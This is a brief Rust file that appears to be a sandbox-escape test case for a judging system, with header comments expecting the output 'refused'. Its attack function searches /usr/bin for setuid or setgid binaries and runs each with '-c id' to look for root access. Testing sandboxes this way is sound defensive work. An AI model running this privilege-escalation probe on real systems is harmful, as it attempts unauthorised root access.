// why: programs of the host with the set-user-ID bit
// verdict: AC
// stdout: refused
use std::{fs, os::unix::fs::PermissionsExt, process::{Command, Stdio}};

pub fn attack() {
    let mut raised = false;
    for entry in fs::read_dir("/usr/bin").unwrap().flatten() {
        let Ok(meta) = fs::metadata(entry.path()) else { continue };
        if meta.permissions().mode() & 0o6000 == 0 {
            continue;
        }
        raised |= Command::new(entry.path())
            .args(["-c", "id"])
            .stdin(Stdio::null())
            .stderr(Stdio::null())
            .output()
            .is_ok_and(|output| String::from_utf8_lossy(&output.stdout).contains("uid=0"));
    }
    println!("{}", if raised { "raised" } else { "refused" });
}
